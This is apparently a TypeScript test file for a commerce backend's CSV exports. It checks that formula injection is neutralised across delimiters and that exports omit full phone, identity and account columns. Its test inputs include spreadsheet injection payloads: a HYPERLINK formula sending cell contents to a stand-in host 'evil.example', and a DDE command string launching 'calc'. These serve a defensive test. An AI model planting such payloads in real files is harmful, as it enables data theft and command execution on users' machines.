import { PassThrough } from "node:stream"
import { text } from "node:stream/consumers"
import { z } from "@medusajs/framework/zod"
import { createMedusaContainer } from "@medusajs/framework/utils"
import { csvText, writeCsv } from "../csv"
import { exceptionsCsv } from "../gateway-payments/export-exceptions"
import { paymentsCsv } from "../gateway-payments/payment-answers"
import { transfersCsv } from "../payouts/export-transfers"

const cell = z.object({ note: csvText, next: csvText })

async function written(note: string, delimiter?: string): Promise<string> {
  const output = new PassThrough()
  const pages = (async function* () {
    yield [{ note, next: "x" }]
  })()
  const done = text(output)
  await writeCsv({ columns: cell, pages, ...(delimiter ? { delimiter } : {}) }, output)
  return (await done).split("\r\n").slice(1).join("\r\n")
}

/** A cell's text as a spreadsheet has it after reading the file. */
function inSpreadsheet(line: string): string {
  const [, quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^,;]*))[,;]/.exec(line) ?? []
  return quoted?.replaceAll('""', '"') ?? plain ?? ""
}

const link = 'HYPERLINK("https://evil.example/?"&A1)'

describe("a cell of an export", () => {
  it.each([
    ...["=", "+", "-", "@", "＝", "＋", "－", "＠"].map((mark) => mark + link),
    ...["\t", "\r", "\n", " ", "\u00a0", "\u3000", "\ufeff", "\u200b"].map(
      (blank) => `${blank}=${link}`
    ),
    `\r\n=${link}`,
    `"=${link}`,
    `";=${link}`,
    `x",=${link}`,
    "=cmd|' /C calc'!A0",
  ])("is no formula, nor makes one beside it: %j", async (note) => {
    for (const delimiter of [",", ";"]) {
      const line = await written(note, delimiter)
      const shown = inSpreadsheet(line)
      expect(shown.replace(/^[\s\p{Cf}]+/u, "")).not.toMatch(/^[=+\-@＝＋－＠]/)
      expect(shown.replace(/^'/, "")).toBe(note)
    }
  })

  it("is what was written where it is no formula", async () => {
    expect(inSpreadsheet(await written("O'Brien, 5 + 5 = 10"))).toBe("O'Brien, 5 + 5 = 10")
  })
})

describe("an export", () => {
  const files = {
    payments: paymentsCsv(createMedusaContainer(), {}),
    exceptions: exceptionsCsv(noPages()),
    transfers: transfersCsv(noPages()),
  }

  it.each(Object.keys(files) as (keyof typeof files)[])(
    "has no column for an account, a phone or an identity number in full: %s",
    (name) => {
      const columns = Object.keys(files[name].columns.shape)
      expect(columns.length).toBeGreaterThan(10)
      const personal = columns.filter((column) =>
        /phone|identity|account|details|body|data/.test(column)
      )
      // The account's last places.
      expect(personal.filter((column) => column !== "beneficiary_account")).toEqual([])
    }
  )

  async function* noPages(): AsyncGenerator<never[]> {}
})
